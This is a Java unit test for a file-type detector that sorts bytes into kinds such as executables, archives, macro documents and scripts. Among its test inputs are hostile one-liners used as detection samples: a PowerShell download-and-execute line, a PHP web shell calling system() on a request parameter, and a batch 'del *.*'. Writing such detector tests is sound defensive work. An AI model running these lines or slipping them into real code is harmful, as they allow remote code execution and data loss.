package io.github.crosslevel.mls.inspection.type;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FileKindTest {
    private static FileKind ofText(String text) {
        return FileKind.detect(text.getBytes(UTF_8));
    }

    private static FileKind ofHex(String hex) {
        return FileKind.detect(Arrays.copyOf(HexFormat.of().parseHex(hex), 512));
    }

    private static byte[] zip(String... names) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (String name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(new byte[300]);
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest
    @CsvSource({
        "7f454c4602010100, ELF",
        "cffaedfe07000001, MACH_O",
        "cafebabe00000002, MACH_O",
        "cafebabe0000003d, JAVA_CLASS",
        "6465780a30333500, DEX",
        "0061736d01000000, WASM",
        "4c0000000114020000000000c000000000000046, LNK",
        "377abcaf271c0004, SEVEN_ZIP",
        "526172211a0700cf, RAR",
        "526172211a070100, RAR",
        "fd377a585a000004, XZ",
        "28b52ffd04580900, ZSTD",
        "425a6839314159265359, BZIP2",
        "4d53434600000000, CABINET",
        "d0cf11e0a1b11ae1, OLE2",
        "255044462d312e37, PDF",
        "7b5c72746631, RTF",
        "89504e470d0a1a0a, PNG",
        "ffd8ffe000104a46, JPEG",
        "474946383961, GIF",
        "424d1234567800000000, BMP",
        "49492a00, TIFF",
        "52494646123456785745425056503820, WEBP",
        "524946461234567858585858ff, BINARY",
        "4d5a900003000000, DOS",
        "00010203, BINARY",
    })
    void magicTellsTheKind(String hex, FileKind kind) {
        assertThat(ofHex(hex)).isEqualTo(kind);
    }

    @Test
    void aWindowsProgramIsToldByItsHeader() {
        ByteBuffer program = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
        program.put(0, (byte) 'M').put(1, (byte) 'Z').putInt(0x3c, 0x80).putInt(0x80, 0x4550);
        assertThat(FileKind.detect(program.array())).isEqualTo(FileKind.PE);
        program.putInt(0x3c, -1);
        assertThat(FileKind.detect(program.array())).isEqualTo(FileKind.DOS);
        assertThat(FileKind.detect(new byte[] {'M', 'Z'})).isEqualTo(FileKind.TEXT);
        assertThat(ofText("MZ,name\n1,a\n")).isEqualTo(FileKind.CSV);
    }

    @Test
    void realFilesOfTheJdkAreTold() throws IOException {
        try (InputStream in = FileKindTest.class.getResourceAsStream("FileKindTest.class")) {
            assertThat(FileKind.detect(in.readAllBytes())).isEqualTo(FileKind.JAVA_CLASS);
        }
        ByteArrayOutputStream gzip = new ByteArrayOutputStream();
        new GZIPOutputStream(gzip).close();
        assertThat(FileKind.detect(gzip.toByteArray())).isEqualTo(FileKind.GZIP);
        byte[] tar = new byte[512];
        System.arraycopy("ustar".getBytes(UTF_8), 0, tar, 257, 5);
        assertThat(FileKind.detect(tar)).isEqualTo(FileKind.TAR);
    }

    @Test
    void anArchiveIsToldByItsEntries() throws IOException {
        assertThat(FileKind.detect(zip("a.txt"))).isEqualTo(FileKind.ZIP);
        assertThat(FileKind.detect(zip())).isEqualTo(FileKind.ZIP);
        assertThat(FileKind.detect(zip("META-INF/MANIFEST.MF", "A.class"))).isEqualTo(FileKind.JAR);
        assertThat(FileKind.detect(zip("a.txt", "evil/A.class"))).isEqualTo(FileKind.JAR);
        assertThat(FileKind.detect(zip("AndroidManifest.xml", "classes.dex"))).isEqualTo(FileKind.APK);
        assertThat(FileKind.detect(zip("[Content_Types].xml", "word/document.xml")))
                .isEqualTo(FileKind.OOXML);
        assertThat(FileKind.detect(zip("[Content_Types].xml", "xl/vbaProject.bin")))
                .isEqualTo(FileKind.OOXML_MACRO);
    }

    @Test
    void macrosInACompoundFileAreSeen() {
        byte[] document = Arrays.copyOf(HexFormat.of().parseHex("d0cf11e0a1b11ae1"), 2048);
        byte[] name = "_VBA_PROJECT".getBytes(UTF_16LE);
        System.arraycopy(name, 0, document, 1152, name.length);
        assertThat(FileKind.detect(document)).isEqualTo(FileKind.OLE2_MACRO);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "#!/bin/sh|SHELL_SCRIPT",
                "@echo off\\ndel *.*|BATCH",
                "setlocal\\nif exist a goto b|BATCH",
                "powershell -EncodedCommand ZQBj|POWERSHELL",
                "$c = New-Object Net.WebClient; Invoke-Expression $c.DownloadString('http://x')|POWERSHELL",
                "var s = new ActiveXObject('x')|JAVASCRIPT",
                "function a() { eval('x') }|JAVASCRIPT",
                "Set s = CreateObject(\"WScript.Shell\")|VBSCRIPT",
                "Dim x\\nEnd Sub|VBSCRIPT",
                "name\\n<?php system($_GET[0]) ?>|SERVER_PAGE",
                "<%@ page import=\"java.io\" %>|SERVER_PAGE",
                "<html><hta:application id=x>|HTA",
                "<!DOCTYPE HTML>|HTML",
                "  <Body onload=x()>|HTML",
                "name,note\\na,<script>alert(1)</script>|HTML",
                "<?xml version=\"1.0\"?><a/>|XML",
                "{\"a\":1}|JSON",
                " [1]|JSON",
                "name,mobile\\n张三,138|CSV",
                "a <b and c> d|TEXT",
            })
    void textTellsTheKindWithAnyByteOrderMark(String escaped, FileKind kind) {
        String text = escaped.replace("\\n", "\r\n");
        assertThat(ofText(text)).isEqualTo(kind);
        assertThat(ofText("\ufeff" + text)).isEqualTo(kind);
        FileKind wide = kind.isExecutable() ? kind : FileKind.UTF16_TEXT;
        assertThat(FileKind.detect(("\ufeff" + text).getBytes(UTF_16LE))).isEqualTo(wide);
        assertThat(FileKind.detect(("\ufeff" + text).getBytes(UTF_16BE))).isEqualTo(wide);
        assertThat(FileKind.detect(text.getBytes(UTF_16LE))).isEqualTo(wide);
        assertThat(FileKind.detect(text.getBytes(UTF_16BE))).isEqualTo(wide);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name,note\n张三,function of the account\n",
                "name,note\n张三,var 12\n",
                "note\n客户使用 PowerShell 培训\n",
                "id,title\n1,goto bank\n2,end sub account\n",
                "name\nrem\nset\n",
                "name,note\na,the #! sign\n"
            })
    void ordinaryTextIsNotTakenForAProgram(String text) {
        assertThat(ofText(text)).isIn(FileKind.TEXT, FileKind.CSV);
    }

    @Test
    void aCharacterMayBeCutOffAtTheEndOfTheHead() {
        byte[] head = "name\n张三".getBytes(UTF_8);
        for (int cut = 0; cut < 3; cut++) {
            assertThat(FileKind.detect(Arrays.copyOf(head, head.length - cut))).isEqualTo(FileKind.TEXT);
        }
        assertThat(FileKind.detect(new byte[] {'a', (byte) 0x80, 'b'})).isEqualTo(FileKind.BINARY);
        assertThat(FileKind.detect(new byte[0])).isEqualTo(FileKind.EMPTY);
    }

    @Test
    void anyBytesHaveAKind() {
        Random random = new Random(1);
        List<FileKind> kinds = List.of(FileKind.values());
        for (int i = 0; i < 20_000; i++) {
            byte[] head = new byte[random.nextInt(300)];
            random.nextBytes(head);
            if (head.length > 4 && i % 2 == 0) {
                byte[] magic = HexFormat.of()
                        .parseHex(List.of("4d5a0000", "504b0304", "cafebabe", "d0cf11e0")
                                .get(i / 2 % 4));
                System.arraycopy(magic, 0, head, 0, 4);
            }
            assertThat(kinds).contains(FileKind.detect(head));
        }
    }
}
